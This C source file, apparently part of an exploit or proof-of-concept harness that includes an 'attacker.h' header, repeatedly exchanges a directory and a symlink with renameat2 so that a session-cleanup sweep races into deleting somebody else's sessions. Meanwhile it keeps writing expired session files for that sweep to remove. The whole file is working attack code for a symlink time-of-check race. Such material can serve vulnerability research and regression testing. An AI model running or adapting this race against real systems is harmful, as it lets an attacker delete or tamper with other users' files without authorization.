/*
 * Exchanges two names in a tight loop: a directory on the way to sessions, and a link that leads to
 * somebody else's.
 *
 *   exchange FIRST SECOND STORE PREFIX COUNT
 *
 * In STORE, which stays open whatever its name is by now, it renews the expired sessions
 * STORE/PREFIX0 to PREFIX(COUNT - 1), so that every sweep has something to remove while the names
 * change: a list that was read in the one directory may be worked off in the other.
 */
#define _GNU_SOURCE
#include "attacker.h"

enum { kRoundsBetweenRenewals = 32 };

static void renew(int store, const char* prefix, int count) {
  char name[256];
  for (int i = 0; i < count; ++i) {
    snprintf(name, sizeof name, "%s%d", prefix, i);
    if (write_old_session(store, name) != 0) fail(name);
  }
}

int main(int argc, char** argv) {
  if (argc != 6) return 2;
  const char* const first = argv[1];
  const char* const second = argv[2];
  const char* const prefix = argv[4];
  const int count = atoi(argv[5]);
  const int store = open(argv[3], O_RDONLY | O_DIRECTORY);
  if (store < 0) fail(argv[3]);
  renew(store, prefix, count);
  begin();
  unsigned long rounds = 0;
  for (; !is_told_to_end; ++rounds) {
    if (renameat2(AT_FDCWD, first, AT_FDCWD, second, RENAME_EXCHANGE) != 0) fail("renameat2");
    if (rounds % kRoundsBetweenRenewals == 0) renew(store, prefix, count);
  }
  return end(rounds);
}
